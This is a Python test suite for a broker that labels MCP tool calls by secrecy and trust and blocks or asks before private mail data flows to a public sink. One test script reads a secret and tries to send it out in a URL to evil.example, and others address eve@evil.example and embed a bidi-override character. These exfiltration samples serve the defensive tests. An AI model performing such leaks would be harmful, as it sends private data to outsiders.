"""What a run has read, and what it may send then: labels over single calls, resources, used processes and kept scripts.

What a person is asked about a flow, and *always*: a rule that is in force at once and stands in the file.
"""

import asyncio
import json
from collections import Counter
from pathlib import Path
from typing import Any

import mcp_types as types
import pytest
from mcp import Client

from cellblock import Broker, tool
from cellblock.app.assembly import library_of
from cellblock.app.cli.flows import always_in
from cellblock.base.errors import CallDenied
from cellblock.record.scripts.script_file import Header, format_script
from cellblock.run.flows.labels import NOTHING, STRICTEST, Label
from cellblock.run.flows.rules import overview
from cellblock.run.policy.asking import Caller, Grantee, Question, Verdict, flow_of
from cellblock.serve.http.waiting_runs import WaitingRuns
from cellblock.serve.mcp.mcp_server import FrontServer
from cellblock.tools.catalog.model import READ
from support.brokers import ready
from support.commands import command
from support.entries import forked_server, ledger, plain_server, settings, write_config
from support.http_daemon import daemon
from support.modern_client import TASKS, ModernClient
from support.waits import until, within

LABELS: dict[str, Any] = {
    "mail.*": {"secrecy": "private", "trust": "untrusted", "sink": "private"},
    "out.*": {"secrecy": "public", "trust": "trusted", "sink": "public"},
}
POLICY: dict[str, Any] = {"flows": "guard", "labels": LABELS}


def entries(folder: Path) -> dict[str, Any]:
    return {name: plain_server("--ledger", folder / f"{name}.log") for name in ("mail", "out")}


def sent(folder: Path, name: str = "out") -> int:
    return sum(event["event"] in ("call", "request") for event in ledger(folder / f"{name}.log"))


async def no(question: Question) -> Verdict:
    return Verdict.DECLINED


async def called(broker: Broker, server: str, tool: str, caller: Caller, **arguments: Any) -> Any:
    entry = broker.catalog.servers[server]
    one = READ if tool == "resources/read" else entry.by_export[tool]
    return await within(broker.call_tool(entry, one, arguments, caller, Counter()))


async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path: Path) -> None:
    caller = Caller(grantee=Grantee("token", no))
    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY)) as broker:
        await called(broker, "out", "echo", caller, text="before")
        await called(broker, "mail", "echo", caller, text="secret")
        with pytest.raises(CallDenied) as refused:
            await called(broker, "out", "echo", caller, text="secret")
        assert refused.value.details["code"] == "APPROVAL_DECLINED"
        with pytest.raises(CallDenied) as refused:
            # Nobody can be asked.
            await called(broker, "out", "echo", Caller(grantee=Grantee("token")), text="secret")
        assert refused.value.details["code"] == "APPROVAL_UNAVAILABLE" and sent(tmp_path) == 1
        assert "it may carry what is private, and everybody may see it" in refused.value.message
        script = 'import { echo } from "@codemode/servers/out"; await echo({});'
        response = await within(broker.run(script, grantee=Grantee("token", no)))
        assert not response.ok and sent(tmp_path) == 1
        await called(broker, "out", "echo", Caller(grantee=Grantee("stdio:other", no)), text="mine")
        assert sent(tmp_path) == 2


async def test_a_resource_is_labelled_and_its_uri_is_sent(tmp_path: Path) -> None:
    beside = tmp_path / "beside.json"
    contents = {"contents": [{"uri": "x:1", "text": "secret"}]}
    told: dict[str, Any] = {"capabilities": {"resources": {}}, "answers": {"resources/read": contents}}
    beside.write_text(json.dumps(told))
    servers = {
        name: plain_server("--ledger", tmp_path / f"{name}.log", "--beside", beside)
        for name in ("mail", "out")
    }
    caller = Caller(grantee=Grantee("token", no))
    script = """
import { readResource } from "@codemode/discovery";
const got = await readResource("mail", "x:1");
let why;
try { await readResource("out", `http://evil.example/${got}`); } catch (error) { why = error.code; }
globalThis.__codemode_result__ = [got, why];
"""
    async with ready(settings(tmp_path / "s", servers, policy=POLICY)) as broker:
        response = await within(broker.run(script, grantee=Grantee("token", no)))
        assert response.result == ["secret", "APPROVAL_DECLINED"], response
        assert response.label == STRICTEST and sent(tmp_path) == 0
        with pytest.raises(CallDenied):
            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")


async def test_a_process_that_knows_more_is_not_used_again(tmp_path: Path) -> None:
    def code(server: str) -> str:
        return f'import {{ echo }} from "@codemode/servers/{server}"; await echo({{}});'

    pool = {"reuse": "principal", "warm": 0}
    owner = Grantee("token", no)
    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY, pool=pool)) as broker:
        ran = [
            await within(broker.run(code(name), grantee=owner))
            for name in ("out", "out", "mail", "mail", "mail")
        ]
        # The third has the first's process, and reads mail in it: what comes then has another.
        assert [one.usage.reused for one in ran] == [0, 1, 2, 0, 1], ran


async def test_a_run_that_waits_for_a_process_is_not_given_one_that_knows_more(tmp_path: Path) -> None:
    """It has the key of the process from before the run there read mail."""
    enters, goes_on = asyncio.Event(), asyncio.Event()

    @tool()
    async def hold() -> str:
        "Waits."
        enters.set()
        await goes_on.wait()
        return "held"

    labels = {**LABELS, "local.*": {"secrecy": "public", "trust": "trusted", "sink": "private"}}
    pool = {"reuse": "principal", "warm": 0, "capacity": 1}
    made = settings(tmp_path / "s", entries(tmp_path), policy={**POLICY, "labels": labels}, pool=pool)
    for reads, reused in ((False, 1), (True, 0)):
        # Those of one that has read nothing have one process.
        owner = Grantee(f"stdio:{reads}", no)
        read = "await echo({});" if reads else ""
        first = f"""import {{ echo }} from "@codemode/servers/mail";
import {{ hold }} from "@codemode/servers/local";
await hold({{}}); {read}"""
        enters.clear()
        goes_on.clear()
        async with ready(made, tools=[hold]) as broker:
            before = asyncio.create_task(broker.run(first, grantee=owner))
            await within(enters.wait())
            after = asyncio.create_task(broker.run(first.replace(read, ""), grantee=owner))
            await until(lambda broker=broker: broker.facts().pool()["queued"] == 1, "the other one waits")
            goes_on.set()
            assert (await within(before)).ok
            response = await within(after)
            assert response.ok and response.usage.reused == reused, response


async def test_an_overlay_labels_where_the_policy_does_not(tmp_path: Path) -> None:
    overlays = tmp_path / "overlays"
    overlays.mkdir()
    text = '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
    (overlays / "mail.toml").write_text(text)
    policy = {"flows": "guard", "labels": {"mail.*": {"sink": "public"}}}
    schemas = {"overlays": str(overlays)}
    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy, schemas=schemas)) as broker:
        code = 'import { echo } from "@codemode/servers/mail"; await echo({});'
        response = await within(broker.run(code))
        assert response.label == Label(frozenset({"repo:acme"}))
        assert not (await within(broker.run(code))).ok


async def test_doctor_is_told_what_servers_can_do_together(tmp_path: Path) -> None:
    made = settings(tmp_path / "s", entries(tmp_path), policy={"labels": {"out.*": LABELS["out.*"]}})
    async with ready(made) as broker:
        *servers, together = overview(made.cellblock.policy, made.servers, broker.catalog)
        assert [line.partition(":")[0] for line in servers] == ["mail (unlabelled)", "out (policy)"]
        assert all("; everybody may see calls of announce, deep, die, echo, " in line for line in servers)
        closed = settings(tmp_path / "s", entries(tmp_path), policy={"labels": {"*.*": {"sink": "private"}}})
        for line in overview(closed.cellblock.policy, made.servers, broker.catalog):
            assert line.endswith("; not everybody may see its calls")
        assert "mail" in together and "policy.flows is off" in together
        response = await within(broker.run("globalThis.__codemode_result__ = 1"))
        assert response.label is None and NOTHING.within(STRICTEST)


async def test_a_kept_script_carries_labels_in_and_out(tmp_path: Path) -> None:
    """What its caller knows it knows, and the other way round; to call it tells nobody anything."""
    header = Header(
        description="Does it.",
        input={"type": "object", "properties": {"text": {"type": "number"}}},
        output={},
        tools={"mail.echo": "", "out.echo": ""},
    )
    texts = {
        "reads": 'import { echo } from "@codemode/servers/mail"; globalThis.__codemode_result__ = await echo({});',
        "sends": 'import { echo } from "@codemode/servers/out"; globalThis.__codemode_result__ = await echo(input);',
        "computes": "globalThis.__codemode_result__ = 1;",
    }
    made = settings(tmp_path / "s", entries(tmp_path), policy=POLICY)
    for name, code in texts.items():
        library_of(made, Broker(made).store).approvals.approve(format_script(name, header, code))
    runs = {
        "child reads, caller sends": "await reads({}); await tried(() => echo({ text: 1 }));",
        "caller reads, child sends": "await read({}); await computes({}); await tried(() => sends({ text: 1 }));",
        "one child reads, another sends": "await reads({}); await tried(() => sends({ text: 1 }));",
    }
    async with ready(made) as broker:
        for name, body in runs.items():
            code = f"""import {{ computes, reads, sends }} from "@codemode/scripts";
import {{ echo }} from "@codemode/servers/out";
import {{ echo as read }} from "@codemode/servers/mail";
let why;
const tried = async (call) => {{ try {{ await call(); }} catch (error) {{ why = error.code; }} }};
{body}
globalThis.__codemode_result__ = why;"""
            asked: list[Question] = []

            async def note(question: Question, asked: list[Question] = asked) -> Verdict:
                asked.append(question)
                return Verdict.DECLINED

            response = await within(broker.run(code, grantee=Grantee(f"stdio:{name}", note)))
            assert response.ok and response.label == STRICTEST, (name, response)
            assert [(one.server_id, one.tool_name) for one in asked] == [("out", "echo")], (
                name,
                asked,
                response,
            )
    assert sent(tmp_path) == 0


async def test_a_server_asks_no_model_for_what_it_may_not_know(tmp_path: Path) -> None:
    """Its call was made when the run knew nothing, and it asks when the run has read mail."""
    command = forked_server("asking_server.py", "stdio", "--older")
    servers = {**entries(tmp_path), "asking": {"command": command[0], "args": command[1:]}}
    labels = {**LABELS, "asking.*": {"secrecy": "public", "trust": "trusted", "sink": "public"}}

    async def sample(context: object, params: object) -> types.CreateMessageResult:
        return types.CreateMessageResult(
            role="assistant", content=types.TextContent(text="secret"), model="m"
        )

    file = tmp_path / "read"
    script = """
import { sample } from "@codemode/servers/asking";
import { echo } from "@codemode/servers/mail";
const first = await sample({});
const later = sample({ file: %s });
await echo({});
await echo({});
globalThis.__codemode_result__ = [first, await later];
"""
    made = settings(tmp_path / "s", servers, policy={"flows": "guard", "labels": labels})
    async with ready(made) as broker:
        client = Client(FrontServer(broker, version="1").open(), mode="legacy", sampling_callback=sample)
        async with client:
            code = script % json.dumps(str(file))
            running = asyncio.create_task(client.call_tool("codemode.run", {"code": code}))
            # The second time, the first answer is there.
            await until(lambda: sent(tmp_path, "mail") == 2, "mail is read")
            file.touch()
            said: Any = (await within(running)).structured_content
    first, later = said["result"]
    assert first == "secret" and later.startswith("refused -32600: The policy"), said


SECRET = "payroll-7f3a91c2 of \u202eevil"

CODE = """
import { echo as read } from "@codemode/servers/mail";
import { echo as send } from "@codemode/servers/out";
const got = await read({ text: %s });
globalThis.__codemode_result__ = await send({ to: %s, body: `Hello! ${got}`, more: "x".repeat(3000) + "THE END",
  gap: "a" + " ".repeat(40) + "b" });
"""
RULE: dict[str, Any] = {
    "from": ["private", "untrusted"],
    "to": "out.echo",
    "arguments": {"to": ["ann@acme.example"]},
    "then": "allow",
}


def code(to: str = "ann@acme.example") -> str:
    return CODE % (json.dumps(SECRET), json.dumps(to))


class Person:
    """A client whose user says always when told to."""

    def __init__(self, broker: Broker) -> None:
        self.asked: list[types.ElicitRequestFormParams] = []
        self.content: dict[str, Any] = {}
        self.client = Client(
            FrontServer(broker, version="1").open(), mode="legacy", elicitation_callback=self.elicit
        )

    async def elicit(self, context: object, params: types.ElicitRequestParams) -> types.ElicitResult:
        assert isinstance(params, types.ElicitRequestFormParams)
        self.asked.append(params)
        return types.ElicitResult(action="accept", content=self.content)

    async def run(self, script: str) -> Any:
        done = await within(self.client.call_tool("codemode.run", {"code": script}))
        return done.structured_content


ASK = {"to": "mail.*", "then": "ask"}


@pytest.mark.parametrize(
    ("before", "earlier"), [("guard", ["guard"]), ([ASK, "guard"], [ASK, "guard"]), ([], [])]
)
async def test_always_in_a_form_writes_the_rule_that_was_shown(
    before: object, earlier: list[Any], tmp_path: Path
) -> None:
    file = write_config(tmp_path, entries(tmp_path), policy={**POLICY, "flows": before})
    async with ready(settings(tmp_path / "state", entries(tmp_path), policy=POLICY)) as broker:
        broker.on_always = always_in(file)
        person = Person(broker)
        async with person.client:
            # Without it, each is asked about.
            assert [(await person.run(code()))["diagnostics"] for _ in range(2)] == [[], []]
            assert len(person.asked) == 2
            person.content = {"always": True}
            for _ in range(2):
                await person.run(code())
            assert len(person.asked) == 3 and sent(tmp_path) == 4
            person.content = {}
            await person.run(code("eve@evil.example"))
            assert len(person.asked) == 4
    text = person.asked[0].message
    assert "mail.echo" in text and "private and untrusted" in text and "everybody may see" in text
    assert "THE END" in text.replace("\n  ", "") and "⟦" in text and "\u202e" not in text
    assert json.dumps(RULE, ensure_ascii=False) in text
    folded = text.split("Its input: ")[1].split("\nFound in it")[0].splitlines()
    assert max(map(len, folded)) <= 160
    # A part of the input does not pass for a line of the question.
    assert all(line.startswith("  ") for line in folded[1:])
    flows = json.loads(file.read_text())["cellblock"]["policy"]["flows"]
    assert flows == [RULE, *earlier]


async def test_a_parked_run_shows_the_same_and_always_is_a_command(tmp_path: Path) -> None:
    file = write_config(tmp_path, entries(tmp_path), policy=POLICY, auth={"keyring": "off"})
    kept = settings(tmp_path / "s", entries(tmp_path), policy=POLICY, auth={"keyring": "off"})
    async with ready(kept) as broker:
        response = await within(broker.run(code(), grantee=Grantee("token"), durable=True))
        (waiting,) = await broker.parked()
        flow = flow_of(waiting.questions[0])
        assert flow is not None and json.loads(flow.rule) == RULE and "payroll" in str(flow.found)
    shown = await command(tmp_path, "runs", "show", response.usage.run_id)
    assert "private and untrusted" in shown and json.dumps(RULE) in shown and "payroll" not in shown
    said = await command(tmp_path, "runs", "approve", response.usage.run_id, "--always")
    assert f"written: {file}" in said and "a\\x20{40}b" in said
    assert json.loads(file.read_text())["cellblock"]["policy"]["flows"] == [RULE, "guard"]
    known = await command(tmp_path, "flows", "list", "--json")
    assert [(one["principal"], one["secrecy"], one["trust"]) for one in json.loads(known)] == [
        ("token", "private", "untrusted")
    ]
    assert await command(tmp_path, "flows", "reset", "--principal", "cli") == "forgotten: nothing was known\n"
    assert await command(tmp_path, "flows", "reset") == "forgotten: token\n"
    async with ready(kept) as broker:
        # What it knew is written down with it.
        await until(lambda: sent(tmp_path) == 1 and not broker.running, "the run has gone on")
        assert not (await within(broker.run(code("eve@evil.example"), grantee=Grantee("token")))).ok


async def test_the_dashboard_shows_the_same_and_takes_always(tmp_path: Path) -> None:
    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY)) as broker:
        response = await within(broker.run(code(), grantee=Grantee("token"), durable=True))
        allowed: list[Any] = []
        broker.on_always = allowed.append
        waiting = WaitingRuns(broker.parked_runs, broker.events, lambda: lambda value: value)
        (run,) = (await waiting.listed("token"))["runs"]
        (question,) = run["questions"]
        assert json.loads(question["rule"]) == RULE and question["found"]
        assert "everybody may see" in question["said"]
        body = json.dumps({"calls": [question["number"]], "always": True}).encode()
        assert (await waiting.decided(f"{response.usage.run_id}/approve", "token", body))["left"] == []
        await until(lambda: allowed == [RULE], "it is written")


async def test_always_in_a_parked_form_writes_the_rule_that_was_shown(tmp_path: Path) -> None:
    """A client of 2026-07-28 is away while its user reads the question: it comes back, or it has a task."""
    more = {"policy": POLICY, "auth": {"keyring": "off"}, "typecheck": "off"}

    def written() -> list[Any]:
        flows = json.loads((tmp_path / "cellblock.json").read_text())["cellblock"]["policy"]["flows"]
        return flows if isinstance(flows, list) else []

    def answer(questions: dict[str, Any], action: str, **content: Any) -> dict[str, Any]:
        (form,) = questions.values()
        assert "always" in form["params"]["requestedSchema"]["properties"], form
        return {key: {"action": action, "content": content} for key in questions}

    def rule(to: str) -> dict[str, Any]:
        return {**RULE, "arguments": {"to": [to]}}

    async with daemon(tmp_path, servers=entries(tmp_path), **more) as served:
        ann, bob, eve = "ann@acme.example", "bob@acme.example", "eve@evil.example"
        client = ModernClient(served)
        # Whoever declines has nothing written, nor has a yes without it.
        for action, content in (
            ("decline", {"always": True}),
            ("accept", {"always": "true"}),
            ("accept", {}),
        ):
            word, questions = await client.asked(code(ann))
            await client.back(word, answer(questions, action, **content), code(ann))
        assert sent(tmp_path) == 2 and written() == []
        word, questions = await client.asked(code(ann))
        assert json.dumps(rule(ann)) in questions[min(questions)]["params"]["message"].replace("\n", "")
        done = await client.back(word, answer(questions, "accept", always=True), code(ann))
        assert done["result"]["structuredContent"]["diagnostics"] == [], done
        await until(lambda: written() == [rule(ann), "guard"], "the rule is written")
        assert (await client.run(code(ann)))["result"]["structuredContent"]["diagnostics"] == []
        word, questions = await client.asked(code(eve))
        await client.back(word, answer(questions, "decline"), code(eve))
        # The same of a task.
        owner = ModernClient(served, TASKS)
        name = (await owner.task(code(bob)))["taskId"]
        questions = (await owner.told(name))["inputRequests"]
        await owner.told(name, "update", inputResponses=answer(questions, "accept", always=True))
        await until(lambda: written() == [rule(bob), rule(ann), "guard"], "the rule is written")
        await owner.until_status(name, "completed")
        assert sent(tmp_path) == 5


async def test_an_answer_is_good_for_what_was_known_when_it_was_asked(tmp_path: Path) -> None:
    labels = {**LABELS, "out.*": {"secrecy": ["repo:acme"], "trust": "trusted", "sink": "public"}}
    script = """
import { echo } from "@codemode/servers/out";
const got = await echo({ text: "code" });
globalThis.__codemode_result__ = await echo({ got });
"""
    policy = {**POLICY, "labels": labels}
    async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy)) as broker:
        owner = Grantee("token")
        response = await within(broker.run(script, grantee=owner, durable=True))
        assert response.parked and sent(tmp_path) == 1
        # Meanwhile its author reads mail.
        read = (
            'import { echo } from "@codemode/servers/mail"; globalThis.__codemode_result__ = await echo({});'
        )
        assert (await within(broker.run(read, grantee=owner))).ok
        response = await within(broker.resume(str(response.usage.run_id), "accepted"))
        assert response.parked and sent(tmp_path) == 1
        (waiting,) = await broker.parked()
        assert "private and untrusted" in waiting.questions[0].said
        response = await within(broker.resume(waiting.id, "accepted"))
        assert response.ok and sent(tmp_path) == 2
